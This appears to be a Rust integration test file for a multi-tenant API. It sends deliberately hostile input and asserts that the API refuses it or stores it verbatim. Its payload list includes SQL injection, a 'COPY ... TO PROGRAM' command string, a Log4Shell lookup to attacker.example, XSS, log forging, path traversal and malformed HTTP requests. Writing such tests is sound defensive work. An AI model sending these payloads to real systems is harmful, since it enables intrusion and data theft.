//! Input that was made to break something: every answer is the caller's fault, said in the envelope, and nothing
//! changes.

use std::fmt::Write as _;

use gpuaas_api::{Method, Route};
use gpuaas_domain::page;
use gpuaas_testkit::{Answer, Caller, Database, Place, TestPlatform, both_databases};
use serde_json::{Value, json};

const JSON: &str = "application/json";

/// Strings that end a statement, a line or a colour somewhere else.
const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "x'; DROP TABLE tenants; --",
    "x\"; DROP TABLE users; --",
    "1; DELETE FROM audit",
    "') UNION SELECT password_hash FROM users --",
    "$1",
    "?1",
    "%' ESCAPE '%",
    "\\'; COPY users TO PROGRAM 'id'; --",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "line\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "line\nforged",
    "colour\u{1b}[31mred\u{1b}[0m",
    "bell\u{7}",
    "back\u{8}\u{8}space",
    "right\u{202e}tfel",
    "isolate\u{2066}x\u{2069}",
    "zero\u{200b}width",
    "mark\u{feff}",
    "separator\u{2028}line",
    "next\u{85}line",
    "../../../etc/hostname",
    "..\\..\\windows",
    "%00%0d%0a",
    "=1+1",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{ff07} OR 1=1",
];

/// The status of whatever the server says to these bytes; 0 if it hangs up without a word.
pub(crate) async fn raw_status(address: &str, request: &[u8]) -> u16 {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let mut stream = tokio::net::TcpStream::connect(address).await.expect("the server listens");
    // A server that has read enough may hang up before everything is written.
    let _ = stream.write_all(request).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    String::from_utf8_lossy(&answer).split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0)
}

fn address(p: &TestPlatform) -> String {
    p.running.public_url.trim_start_matches("http://").to_owned()
}

/// Every byte escaped, so that a text reaches a query or a path as it is.
pub(crate) fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02X}");
        out
    })
}

/// The caller's fault, in the envelope.
#[track_caller]
fn check_refused(answer: &Answer, status: u16, what: &str) {
    assert_eq!(answer.status, status, "{what}: {}", answer.text);
    assert!(answer.body["error"]["code"].is_string(), "{what}: {}", answer.text);
    assert_eq!(
        answer.body["error"]["correlation_id"].as_str(),
        answer.header("x-correlation-id"),
        "{what}: {}",
        answer.text
    );
}

async fn count(caller: &Caller, path: &str) -> usize {
    let answer = caller.get(&format!("{path}?limit=200")).await.expect(200);
    assert_eq!(answer.body["next_cursor"], Value::Null, "the counts of these tests fit on one page");
    answer.body["items"].as_array().expect("a list").len()
}

fn malformed() -> Vec<Vec<u8>> {
    let texts = [
        "",
        "[\"aa\"]",
        "[]",
        " ",
        "{",
        "}",
        "{}}",
        "{\"slug\"}",
        "{\"slug\":}",
        "{\"slug\":\"aa\",}",
        "{slug:\"aa\"}",
        "{'slug':'aa'}",
        "{\"slug\":\"aa\"",
        "{\"slug\":\"aa\"}x",
        "{\"slug\":\"aa\"}{\"slug\":\"bb\"}",
        "{\"slug\":\"aa\"} null",
        "{\"slug\":NaN}",
        "{\"slug\":Infinity}",
        "{\"slug\":-Infinity}",
        "{\"slug\":1e400}",
        "{\"slug\":-1e400}",
        "{\"slug\":01}",
        "{\"slug\":0x10}",
        "{\"slug\":1.}",
        "{\"slug\":+1}",
        "{\"slug\":undefined}",
        "{\"slug\":True}",
        "{\"slug\":\"\\ud800\"}",
        "{\"slug\":\"\\udc00aa\"}",
        "{\"slug\":\"\\ud800\\ud800\"}",
        "{\"slug\":\"\\x41\"}",
        "{\"slug\":\"\\u12\"}",
        "{\"slug\":\"a\nb\"}",
        "{\"slug\":\"a\tb\"}",
        "// note\n{\"slug\":\"aa\"}",
        "{\"slug\":/* note */\"aa\"}",
        "\u{feff}{\"slug\":\"aa\"}",
        "slug=aa",
        "<slug>aa</slug>",
        "[",
        "[[",
        "]",
        "\"aa",
        "null",
        "true",
        "0",
        "\"aa\"",
        "[]",
        "{}",
    ];
    let mut all: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    all.push(b"{\"slug\":\"\xff\xfe\"}".to_vec());
    all.push(b"{\"slug\":\"\xc0\x80\"}".to_vec());
    all.push(b"{\"slug\":\"\xed\xa0\x80\"}".to_vec());
    all.push(b"{\"slug\":\"a\0b\"}".to_vec());
    all.push(b"\0".to_vec());
    all.push("{\"slug\":\"aa\"}".encode_utf16().flat_map(u16::to_le_bytes).collect());
    all.push(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\x56\x2a".to_vec());
    all.push(format!("{{\"slug\":{}}}", "9".repeat(5000)).into_bytes());
    all.push(format!("{{\"slug\":1e{}}}", "9".repeat(500)).into_bytes());
    all
}

both_databases! {
    /// F07: what is not JSON, or not quite, is refused with 400 by every kind of caller's route, and creates nothing.
    async fn bodies_that_are_not_json_are_refused(p: TestPlatform) {
        let before = count(&p.admin, "/api/v1/tenants").await;
        let anonymous = p.anonymous();
        for body in malformed() {
            let what = String::from_utf8_lossy(&body).into_owned();
            for (caller, route) in [
                (&p.admin, Route::TenantCreate),
                (&p.admin, Route::UserCreate),
                (&p.admin, Route::RoleCreate),
                (&p.admin, Route::TokenCreate),
                (&anonymous, Route::Login),
                (&anonymous, Route::ServiceAccountToken),
                (&anonymous, Route::Unwrap),
            ] {
                let answer = caller.send_raw("POST", route.row().path, Some((body.clone(), JSON))).await;
                check_refused(&answer, 400, &format!("{what:?} at {route:?}"));
            }
        }
        assert_eq!(count(&p.admin, "/api/v1/tenants").await, before);
    }

    /// F07: only JSON is taken, whatever the body would be worth; its parameters and letter case do not matter.
    async fn other_media_types_are_refused(p: TestPlatform) {
        let body = |slug: &str| json!({ "slug": slug }).to_string().into_bytes();
        for kind in [
            "text/plain", "text/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
            "application/json-seq", "application/jsonx", "application/json+x", "json", "*/*", "", ";", "application/cbor", "text/plain, application/json",
        ] {
            let answer = p.admin.send_raw("POST", "/api/v1/tenants", Some((body("media"), kind))).await;
            check_refused(&answer, 415, kind);
        }
        for (slug, kind) in [("one", "application/json; charset=utf-8"), ("two", "APPLICATION/JSON"), ("three", " application/json ;x=y")] {
            p.admin.send_raw("POST", "/api/v1/tenants", Some((body(slug), kind))).await.expect(201);
        }
    }

    /// F07: a body one byte over the limit is refused by every route that takes one; reading routes take none.
    async fn bodies_over_the_limit_are_refused(p: TestPlatform) {
        for route in Route::ALL.iter().copied().filter(|route| !route.row().streaming) {
            let row = route.row();
            let path = row.path.split('/').map(|part| if part.starts_with('{') { "01890000-0000-7000-8000-000000000000" } else { part });
            let path = path.collect::<Vec<_>>().join("/");
            let mut body = b"{\"slug\":\"large\"}".to_vec();
            body.resize(row.body_limit + 1, b' ');
            let answer = p.admin.send_raw(row.method.name(), &path, Some((body, JSON))).await;
            // Who is no node or instance is turned away before anything is read.
            let own = matches!(row.access, gpuaas_api::Access::Node | gpuaas_api::Access::Instance);
            let status = if own { 401 } else { 413 };
            check_refused(&answer, status, &format!("{route:?}"));
        }
        let mut just_fits = b"{\"slug\":\"large\"}".to_vec();
        just_fits.resize(65_536, b' ');
        p.admin.send_raw("POST", "/api/v1/tenants", Some((just_fits, JSON))).await.expect(201);
    }

    /// F07: ten thousand brackets neither overflow a stack nor take time.
    async fn deep_nesting_is_refused(p: TestPlatform) {
        let deep = |open: &str, close: &str| format!("{}{}", open.repeat(10_000), close.repeat(10_000));
        for body in [
            "[".repeat(10_000),
            deep("[", "]"),
            "{\"a\":".repeat(10_000),
            format!("{{\"slug\":{}}}", deep("[", "]")),
            format!("{{\"unknown\":{}}}", deep("[", "]")),
            format!("{{\"slug\":\"aa\",\"display_name\":{}}}", "{\"a\":".repeat(10_000)),
        ] {
            let answer = p.admin.send_raw("POST", "/api/v1/tenants", Some((body.clone().into_bytes(), JSON))).await;
            check_refused(&answer, 400, &body[..20]);
            let role = format!("{{\"slug\":\"deep\",\"permissions\":{}}}", deep("[", "]"));
            let answer = p.admin.send_raw("POST", "/api/v1/roles", Some((role.into_bytes(), JSON))).await;
            check_refused(&answer, 400, "permissions");
        }
    }

    /// T-14: an unknown, doubled or mistyped member is refused and named by its JSON pointer.
    async fn faults_are_named_by_their_path(p: TestPlatform) {
        let home = p.home("acme").await;
        let tenants = "/api/v1/tenants".to_owned();
        let accounts = Route::ServiceAccountCreate.path(&[&home.project]);
        let limit = Route::ProjectLimitSet.path(&[&home.project, &"service_accounts"]);
        for (method, path, body, pointer) in [
            ("POST", &tenants, r#"{"slug":"aa","unknown":1}"#, "/unknown"),
            ("POST", &tenants, r#"{"slug":"aa","Slug":"bb"}"#, "/Slug"),
            ("POST", &tenants, r#"{"slug":"aa","__proto__":{}}"#, "/__proto__"),
            ("POST", &tenants, r#"{"slug":1}"#, "/slug"),
            ("POST", &tenants, r#"{"slug":null}"#, "/slug"),
            ("POST", &tenants, r#"{"slug":["aa"]}"#, "/slug"),
            ("POST", &tenants, r#"{"slug":{"a":1}}"#, "/slug"),
            ("POST", &tenants, r#"{"slug":"aa","display_name":false}"#, "/display_name"),
            ("POST", &tenants, r#"{"slug":"aa","slug":"bb"}"#, "/"),
            ("POST", &tenants, r#"{"slug":"aa","display_name":"a","display_name":"b"}"#, "/"),
            ("POST", &tenants, r#"{"display_name":"a"}"#, "/"),
            ("POST", &accounts, r#"{"name":"a","roles":["project-user",5]}"#, "/roles/1"),
            ("POST", &accounts, r#"{"name":"a","roles":"project-user"}"#, "/roles"),
            ("POST", &accounts, r#"{"name":"a","key_delivery":"carrier_pigeon"}"#, "/key_delivery"),
            ("POST", &accounts, r#"{"name":"a","public_key":"AAAA"}"#, "/public_key"),
            ("POST", &accounts, r#"{"name":"a","id":"01890000-0000-7000-8000-000000000000"}"#, "/id"),
            ("PUT", &limit, r#"{"value":"1"}"#, "/value"),
            ("PUT", &limit, r#"{"value":1.5}"#, "/value"),
            ("PUT", &limit, r#"{"value":9223372036854775808}"#, "/value"),
            ("PUT", &limit, r#"{"value":-1}"#, "/value"),
            ("PUT", &limit, r#"{"value":1000000001}"#, "/value"),
        ] {
            let answer = p.admin.send_raw(method, path, Some((body.as_bytes().to_vec(), JSON))).await;
            check_refused(&answer, 400, body);
            assert_eq!(answer.body["error"]["fields"][0]["path"], pointer, "{body}: {}", answer.text);
        }
        let both = p.admin.post(&tenants, &json!({"slug": "-", "display_name": " "})).await.expect_error(400, "validation_failed");
        assert_eq!(both.body["error"]["fields"].as_array().map(Vec::len), Some(2), "every wrong field is named: {}", both.text);
    }

    /// K01: a refusal does not repeat the value it refuses; it may be a secret in the wrong place.
    async fn refusals_do_not_repeat_secrets(p: TestPlatform) {
        let canary = "canary-5f0e1d";
        for (path, body) in [
            ("/api/v1/auth/login", json!({"email": "a@example.org", "password": [canary]})),
            ("/api/v1/auth/login", json!({"email": {"a": canary}, "password": canary})),
            ("/api/v1/auth/login", json!({"email": canary, "password": canary})),
            ("/api/v1/auth/login", json!({"email": "a@example.org", "password": canary, "extra": canary})),
            ("/api/v1/auth/service-account/token", json!({"assertion": canary})),
            ("/api/v1/auth/service-account/token", json!({"assertion": "x", "ttl_seconds": canary})),
            ("/api/v1/custody/unwrap", json!({"token": canary})),
        ] {
            let answer = p.anonymous().post(path, &body).await;
            assert!(matches!(answer.status, 400 | 401), "{}", answer.text);
            assert!(!answer.text.contains(canary), "{}", answer.text);
        }
        let answer = p.anonymous().get(&format!("/auth/link?code={canary}")).await;
        assert!(!answer.text.contains(canary), "{}", answer.text);
        let user = json!({"email": "b@example.org", "password": canary[..5]});
        let answer = p.admin.post("/api/v1/users", &user).await.expect(400);
        assert!(!answer.text.contains("\"canar"), "{}", answer.text);
    }

    /// NUL is refused wherever text is taken: both databases would treat it differently.
    async fn nul_is_refused_everywhere(p: TestPlatform) {
        let home = p.home("acme").await;
        let admin = &p.admin;
        for body in [
            json!({"slug": "a\0b"}), json!({"slug": "nul", "display_name": "a\0"}), json!({"slug": "nul", "x\0": 1}), json!({"slug": "nul\\\0"}),
        ] {
            admin.post("/api/v1/tenants", &body).await.expect_error(400, "nul_not_allowed");
        }
        let because = json!({"reason": "\0"});
        admin.call(Route::ProjectSuspend, &[&home.project], Some(&because)).await.expect_error(400, "nul_not_allowed");
        let login = json!({"email": "admin@example.org\0", "password": "x"});
        p.anonymous().call(Route::Login, &[], Some(&login)).await.expect_error(400, "nul_not_allowed");
        for query in ["limit=%00", "cursor=%00", "action=%00", "actor_id=a%00", "object_id=%00b", "correlation_id=%00", "%00=1"] {
            let answer = admin.get(&format!("/api/v1/audit?{query}")).await;
            check_refused(&answer, 400, query);
        }
        // A backslash, a `u` and four noughts are six harmless characters.
        admin.post("/api/v1/tenants", &json!({"slug": "harmless", "display_name": "a\\u0000"})).await.expect(201);
    }

    /// S-01: an id has one spelling; every other one, and every trick with the path, finds nothing.
    async fn tricks_in_paths_find_nothing(p: TestPlatform) {
        let home = p.home("acme").await;
        let address = address(&p);
        let bearer = bearer_of(&p).await;
        for route in Route::ALL.iter().copied().filter(|route| route.row().path.contains('{')) {
            let row = route.row();
            let id = if row.path.contains("{project_id}") { &home.project } else { &home.tenant };
            let wide: String = id.chars().map(|c| c.to_digit(10).map_or(c, |digit| char::from_u32(0xff10 + digit).expect("a wide digit"))).collect();
            let tricks = [
                "..".into(), ".".into(), "...".into(), "%2e%2e".into(), "%2e%2e%2f".into(), "..%2f..%2fusers".into(), "..%5c".into(), "%252e%252e".into(),
                "%00".into(), format!("{id}%00"), format!("%00{id}"), "%0d%0aset-cookie:%20a=b".into(), "%ff".into(), "%c0%ae%c0%ae".into(),
                id.to_uppercase(), format!("%7b{id}%7d"), format!("{{{id}}}"), id.replace('-', ""), format!("urn:uuid:{id}"), percent(&wide),
                format!("{id}%20"), format!("%20{id}"), format!("{id}."), format!("{id};x=1"), format!("{id}*"), format!("{id}%3f"), format!("{id}%23"),
                format!("{}0", &id[..35]).chars().rev().collect(), "*".into(), "0".into(), "-1".into(), "null".into(), "%27%20OR%201=1%20--".into(),
                percent("x'; DROP TABLE tenants; --"), percent("\u{202e}"), "a".repeat(4000), String::new(),
            ];
            for trick in &tricks {
                let path = row.path.split('/').map(|part| if part.starts_with('{') { trick.as_str() } else { part });
                let path = path.collect::<Vec<_>>().join("/");
                let body = if row.method == Method::Get { "" } else { "{}" };
                let request = format!(
                    "{} {path} HTTP/1.1\r\nhost: {address}\r\nauthorization: Bearer {bearer}\r\ncontent-type: {JSON}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    row.method.name(), body.len(),
                );
                let status = raw_status(&address, request.as_bytes()).await;
                // Who is no node or instance is turned away before the path is looked at.
                let own = matches!(row.access, gpuaas_api::Access::Node | gpuaas_api::Access::Instance);
                assert!(matches!(status, 400 | 404 | 405) || (own && status == 401), "{route:?} {trick:?}: {status}");
            }
        }
        p.admin.call(Route::TenantGet, &[&home.tenant], None).await.expect(200);
    }

    /// F08: strings made to end a statement or a log line are kept byte for byte or refused; nothing is lost.
    async fn injected_names_are_kept_or_refused(p: TestPlatform) {
        let home = p.home("acme").await;
        let (tenants, users) = (count(&p.admin, "/api/v1/tenants").await, count(&p.admin, "/api/v1/users").await);
        let (mut made_users, mut kept) = (0, 0);
        for (index, text) in INJECTIONS.iter().enumerate() {
            p.admin.post("/api/v1/tenants", &json!({ "slug": text })).await.expect_error(400, "validation_failed");
            let renamed = p.admin.call(Route::TenantUpdate, &[&home.tenant], Some(&json!({ "display_name": text }))).await;
            if renamed.status == 200 {
                kept += 1;
                assert_eq!(renamed.body["display_name"], *text);
                assert_eq!(p.admin.call(Route::TenantGet, &[&home.tenant], None).await.expect(200).body["display_name"], *text);
            } else {
                renamed.expect_error(400, "validation_failed");
                assert!(!text.is_ascii() || text.chars().any(char::is_control), "{text:?} has nothing to refuse");
            }
            let email = format!("{text}@example.org");
            let user = p.admin.post("/api/v1/users", &json!({"email": email, "password": "correct horse battery"})).await;
            if user.status == 201 {
                made_users += 1;
                assert_eq!(user.body["email"], email.to_lowercase());
            } else {
                user.expect_error(400, "validation_failed");
            }
            let role = json!({"role": text, "email": "admin@example.org"});
            p.admin.post("/api/v1/bindings", &role).await.expect(400);
            let permissions = json!({"slug": format!("r{index}"), "permissions": [text]});
            p.admin.post("/api/v1/roles", &permissions).await.expect_error(400, "validation_failed");
        }
        assert!(kept >= 10, "ordinary punctuation is no crime: {kept}");
        assert_eq!(count(&p.admin, "/api/v1/tenants").await, tenants);
        assert_eq!(count(&p.admin, "/api/v1/users").await, users + made_users);
    }

    /// F08: what somebody wrote to explain themselves stands in the trail as they wrote it, and the trail holds.
    async fn injected_reasons_stand_in_the_trail_as_written(p: TestPlatform) {
        let home = p.home("acme").await;
        for (index, text) in INJECTIONS.iter().enumerate() {
            let caller = p.admin.clone().with_header("x-correlation-id", &format!("reason-{index}"));
            let answer = caller.call(Route::ProjectSuspend, &[&home.project], Some(&json!({ "reason": text }))).await;
            if answer.status != 200 {
                answer.expect_error(400, "validation_failed");
                continue;
            }
            p.admin.call(Route::ProjectResume, &[&home.project], None).await.expect(200);
            p.settle().await;
            let trail = p.admin.get(&format!("/api/v1/audit?correlation_id=reason-{index}")).await.expect(200);
            assert_eq!(trail.body["items"][0]["reason"], *text);
        }
        let verified = p.admin.get("/api/v1/audit/verify").await.expect(200);
        assert_eq!(verified.body["ok"], true, "{}", verified.text);
    }

    /// F08: filters are values, whatever they look like: they match nothing and break nothing.
    async fn injected_filters_match_nothing(p: TestPlatform) {
        p.home("acme").await;
        p.settle().await;
        for text in INJECTIONS {
            for name in ["actor_id", "action", "object_id", "correlation_id"] {
                let answer = p.admin.get(&format!("/api/v1/audit?{name}={}", percent(text))).await.expect(200);
                assert_eq!(answer.body["items"], json!([]), "{name}={text:?}");
            }
            for query in ["cursor", "limit", "unknown"] {
                let answer = p.admin.get(&format!("/api/v1/audit?{query}={}", percent(text))).await;
                check_refused(&answer, 400, text);
            }
        }
        assert_ne!(p.admin.get("/api/v1/audit?action=tenants.create").await.expect(200).body["items"], json!([]));
    }
}

/// A bearer for requests that are written by hand.
async fn bearer_of(p: &TestPlatform) -> String {
    let answer = p.admin.call(Route::TokenCreate, &[], Some(&json!({"name": "raw"}))).await.expect(201);
    answer.body["secret"].as_str().expect("a token").to_owned()
}

#[track_caller]
fn check_cursor_refused(answer: &Answer, what: &str) {
    check_refused(answer, 400, what);
    let field = &answer.body["error"]["fields"][0];
    assert_eq!(
        (&field["path"], &field["code"]),
        (&json!("/cursor"), &json!("invalid_cursor")),
        "{what}: {}",
        answer.text
    );
}

both_databases! {
    /// T-14: a cursor fits the one list it came from: not another list, another tenant's, or other filters.
    async fn cursors_fit_only_their_own_list(p: TestPlatform) {
        let (home, other) = (p.home("acme").await, p.home("rival").await);
        for tenant in [&home.tenant, &other.tenant] {
            p.admin.create_project(tenant, &format!("more-{}", &tenant[24..])).await;
        }
        p.settle().await;
        let next = async |path: &str| {
            let glue = if path.contains('?') { '&' } else { '?' };
            let page = p.admin.get(&format!("{path}{glue}limit=1")).await.expect(200);
            page.body["next_cursor"].as_str().unwrap_or_else(|| panic!("{path} has more: {}", page.text)).to_owned()
        };
        let lists = [
            "/api/v1/tenants".to_owned(), "/api/v1/projects".into(), "/api/v1/roles".into(), "/api/v1/audit".into(), "/api/v1/events".into(),
            "/api/v1/audit?action=tenants.create".into(), "/api/v1/audit?action=projects.create".into(),
            Route::ProjectList.path(&[&home.tenant]), Route::ProjectList.path(&[&other.tenant]),
            Route::TenantAuditList.path(&[&home.tenant]), Route::TenantAuditList.path(&[&other.tenant]),
            Route::TenantEventList.path(&[&home.tenant]), Route::TenantEventList.path(&[&other.tenant]),
        ];
        for from in &lists {
            let cursor = next(from).await;
            for to in &lists {
                let glue = if to.contains('?') { '&' } else { '?' };
                let answer = p.admin.get(&format!("{to}{glue}cursor={cursor}")).await;
                if from == to {
                    answer.expect(200);
                } else {
                    check_cursor_refused(&answer, &format!("a cursor of {from} at {to}"));
                }
            }
        }
    }

    /// T-14: a cursor with any letter changed is refused; one made by hand for the right list shows nothing more.
    async fn forged_cursors_are_refused(p: TestPlatform) {
        let home = p.home("acme").await;
        p.home("rival").await;
        let cursor = p.admin.get("/api/v1/tenants?limit=1").await.expect(200).body["next_cursor"].as_str().expect("more").to_owned();
        for index in 0..cursor.len() {
            let letter = if cursor.as_bytes()[index] == b'A' { "B" } else { "A" };
            let changed = format!("{}{letter}{}", &cursor[..index], &cursor[index + 1..]);
            check_cursor_refused(&p.admin.get(&format!("/api/v1/tenants?cursor={changed}")).await, &changed);
        }
        for cut in ["", "A", "=", &cursor[1..], &cursor[..cursor.len() - 1], &format!("{cursor}="), &"A".repeat(513), &"A".repeat(8000)] {
            check_cursor_refused(&p.admin.get(&format!("/api/v1/tenants?cursor={cut}")).await, cut);
        }
        for key in ["\0", "x", "'; DROP TABLE tenants; --", "01890000-0000-7000-8000-00000000000A", "-1", "9223372036854775808", ""] {
            for (list, path) in [("TenantList//", "/api/v1/tenants"), ("RoleList//", "/api/v1/roles"), ("UserList//", "/api/v1/users"), ("PlatformEventList//", "/api/v1/events")] {
                let answer = p.admin.get(&format!("{path}?cursor={}", page::encode(list, key))).await;
                // A whole number is a position in the order of events, in front of all of them.
                if !(key == "-1" && path.ends_with("events")) {
                    check_cursor_refused(&answer, &format!("{key:?} at {path}"));
                }
            }
        }
        let (stranger, _) = p.member("stranger", "tenant-admin", Place::Tenant(&home.tenant)).await;
        let first = page::encode("TenantList//", "00000000-0000-0000-0000-000000000001");
        let seen = stranger.get(&format!("/api/v1/tenants?cursor={first}")).await.expect(200);
        let ids: Vec<_> = seen.body["items"].as_array().expect("a list").iter().map(|item| item["id"].clone()).collect();
        assert_eq!(ids, [json!(home.tenant)], "a cursor does not widen what its holder may see");
    }

    /// T-14: pages hold 1 to 200 items; anything else, and any unknown parameter, is refused.
    async fn odd_page_sizes_are_refused(p: TestPlatform) {
        for path in ["/api/v1/tenants", "/api/v1/projects", "/api/v1/users", "/api/v1/roles", "/api/v1/audit", "/api/v1/events", "/api/v1/auth/tokens", "/api/v1/bindings"] {
            for query in [
                "limit=0", "limit=201", "limit=-1", "limit=abc", "limit=1.5", "limit=", "limit=4294967296", "limit=1e2", "limit=0x10", "limit=%2B%2B1",
                "limit=1&limit=2", "limits=1", "offset=5", "limit[]=1", "%6cimit=0", "limit=%D9%A3",
            ] {
                check_refused(&p.admin.get(&format!("{path}?{query}")).await, 400, &format!("{path}?{query}"));
            }
            for query in ["limit=1", "limit=200", ""] {
                p.admin.get(&format!("{path}?{query}")).await.expect(200);
            }
        }
    }

    /// T-14: If-Match is an ETag or a star; what cannot be one is refused instead of ignored, and changes nothing.
    async fn odd_versions_are_refused(p: TestPlatform) {
        let home = p.home("acme").await;
        let rename = json!({"display_name": "Changed"});
        for value in ["1", "abc", "\"abc\"", "W/\"1\"", "\"1\", \"2\"", "\"\"", "\"1", "1\"", "\"99999999999999999999\"", "\"1.0\"", "'1'", "null", ""] {
            let caller = p.admin.clone().with_header("if-match", value);
            caller.call(Route::TenantUpdate, &[&home.tenant], Some(&rename)).await.expect_error(400, "invalid_if_match");
        }
        for value in ["\"0\"", "\"-1\"", "\"2\"", "\"9223372036854775807\""] {
            let caller = p.admin.clone().with_header("if-match", value);
            caller.call(Route::TenantUpdate, &[&home.tenant], Some(&rename)).await.expect(412);
        }
        assert_eq!(p.admin.call(Route::TenantGet, &[&home.tenant], None).await.body["version"], 1);
        let any = p.admin.clone().with_header("if-match", "*");
        any.call(Route::TenantUpdate, &[&home.tenant], Some(&rename)).await.expect(200);
    }

    /// T-13: a stream resumes after a sequence number; what is none is refused before the stream opens.
    async fn odd_places_to_resume_are_refused(p: TestPlatform) {
        for value in ["abc", "-1", "1.5", "9223372036854775808", "", "1 2", "' OR 1=1", "\u{e9}"] {
            let caller = p.admin.clone().with_header("last-event-id", value);
            caller.get("/api/v1/events/stream").await.expect_error(400, "invalid_last_event_id");
        }
        for query in ["after=abc", "after=1.5", "after=9223372036854775808", "since=1"] {
            p.admin.get(&format!("/api/v1/events/stream?{query}")).await.expect_error(400, "invalid_query");
        }
        p.admin.get("/api/v1/events/socket").await.expect_error(400, "websocket_required");
    }

    /// T-13, F08: a harmless correlation id is kept and found again everywhere; a harmful one is replaced.
    async fn correlation_ids_are_kept_if_harmless(p: TestPlatform) {
        let home = p.home("acme").await;
        let own = "Order-66_a.b:c";
        let trace = "0af7651916cd43dd8448eb211c80319c";
        let caller = p.admin.clone().with_header("x-correlation-id", own).with_header("traceparent", &format!("00-{trace}-b7ad6b7169203331-01"));
        let made = caller.call(Route::ProjectCreate, &[&home.tenant], Some(&json!({"slug": "traced"}))).await.expect(201);
        assert_eq!(made.header("x-correlation-id"), Some(own));
        let refused = caller.call(Route::ProjectCreate, &[&home.tenant], Some(&json!({"slug": "traced"}))).await.expect_error(409, "slug_taken");
        assert_eq!(refused.body["error"]["correlation_id"], own);
        p.settle().await;
        let trail = p.admin.get(&format!("/api/v1/audit?correlation_id={own}")).await.expect(200);
        let row = &trail.body["items"][0];
        assert_eq!((&row["object_id"], &row["trace_id"]), (&json!(made.id()), &json!(trace)), "{}", trail.text);
        let events = p.admin.call(Route::ProjectEventList, &[&made.id()], None).await.expect(200);
        let event = &events.body["items"][0];
        assert_eq!((&event["correlation_id"], &event["trace_id"]), (&json!(own), &json!(trace)), "{}", events.text);

        for harmful in ["", "a b", "a\tb", "<b>", "\"quoted\"", "a;b", "a/b", "a\\b", "{\"a\":1}", "\u{e9}", "\u{202e}", "' OR 1=1 --", &"a".repeat(129)] {
            let answer = p.admin.clone().with_header("x-correlation-id", harmful).get("/api/v1/nowhere").await.expect(404);
            check_own_id(answer.header("x-correlation-id").expect("an id"), harmful);
            check_refused(&answer, 404, harmful);
        }
        let longest = "a".repeat(128);
        let answer = p.admin.clone().with_header("x-correlation-id", &longest).get("/api/v1/nowhere").await;
        assert_eq!(answer.header("x-correlation-id"), Some(longest.as_str()));
    }

    /// T-13: a traceparent that is none starts a new trace instead of being written down.
    async fn trace_ids_are_kept_if_sound(p: TestPlatform) {
        let home = p.home("acme").await;
        let trace = "0af7651916cd43dd8448eb211c80319c";
        let wrong = [
            "", "x", trace, &format!("00-{trace}"), &format!("00-{trace}-b7ad6b7169203331"), &format!("ff-{trace}-b7ad6b7169203331-01"),
            &format!("00-{}-b7ad6b7169203331-01", trace.to_uppercase()), &format!("00-{}-b7ad6b7169203331-01", "0".repeat(32)),
            &format!("00-{}-b7ad6b7169203331-01", "g".repeat(32)), &format!("00-{trace}-b7ad6b716920333-01"), &format!("00-{trace}0-b7ad6b7169203331-01"),
            &format!("00-{trace}-b7ad6b7169203331-01-extra"), &format!("00-{}-b7ad6b7169203331-01", "'; DROP TABLE audit; -- aaaaaaaaa"),
        ];
        for (index, value) in wrong.iter().enumerate() {
            let story = format!("trace-{index}");
            let caller = p.admin.clone().with_header("x-correlation-id", &story).with_header("traceparent", value);
            caller.call(Route::TenantUpdate, &[&home.tenant], Some(&json!({"display_name": story}))).await.expect(200);
            p.settle().await;
            let trail = p.admin.get(&format!("/api/v1/audit?correlation_id={story}")).await.expect(200);
            let written = trail.body["items"][0]["trace_id"].as_str().expect("a trace").to_owned();
            check_own_id(&written, trace);
        }
    }

    /// N09: floods of headers, giant headers and addresses, and requests that are none cost the sender the
    /// connection and nobody else anything.
    async fn nonsense_on_the_wire_harms_nobody(p: TestPlatform) {
        let address = address(&p);
        let host = format!("host: {address}\r\nconnection: close\r\n");
        let many = (0..2000).fold(String::new(), |mut out, n| {
            let _ = write!(out, "x-flood-{n}: a\r\n");
            out
        });
        for (what, request) in [
            ("many headers", format!("GET /healthz HTTP/1.1\r\n{host}{many}\r\n")),
            ("a header of 100 kB", format!("GET /healthz HTTP/1.1\r\n{host}x-large: {}\r\n\r\n", "a".repeat(100_000))),
            ("a header name of 100 kB", format!("GET /healthz HTTP/1.1\r\n{host}{}: a\r\n\r\n", "a".repeat(100_000))),
            ("an address of 100 kB", format!("GET /{} HTTP/1.1\r\n{host}\r\n", "a".repeat(100_000))),
            ("no version", format!("GET /healthz\r\n{host}\r\n")),
            ("version nine", format!("GET /healthz HTTP/9.9\r\n{host}\r\n")),
            ("a NUL in the path", format!("GET /healthz\0 HTTP/1.1\r\n{host}\r\n")),
            ("a space in the path", format!("GET /health z HTTP/1.1\r\n{host}\r\n")),
            ("a NUL in a header", format!("GET /healthz HTTP/1.1\r\n{host}x-a: \0\r\n\r\n")),
            ("a space before the colon", format!("GET /healthz HTTP/1.1\r\n{host}x-a : 1\r\n\r\n")),
            ("two lengths", format!("POST /api/v1/auth/login HTTP/1.1\r\n{host}content-length: 2\r\ncontent-length: 20\r\n\r\n{{}}")),
            ("a negative length", format!("POST /api/v1/auth/login HTTP/1.1\r\n{host}content-length: -1\r\n\r\n")),
            ("a length that is none", format!("POST /api/v1/auth/login HTTP/1.1\r\n{host}content-length: 0x2\r\n\r\n{{}}")),
            ("a chunk that is none", format!("POST /api/v1/auth/login HTTP/1.1\r\n{host}content-type: {JSON}\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n{{}}\r\n0\r\n\r\n")),
            ("an unknown coding", format!("POST /api/v1/auth/login HTTP/1.1\r\n{host}content-type: {JSON}\r\ntransfer-encoding: gzip\r\n\r\n{{}}")),
            ("a lower-case method", format!("get /healthz HTTP/1.1\r\n{host}\r\n")),
            ("an unknown method", format!("BREW /healthz HTTP/1.1\r\n{host}\r\n")),
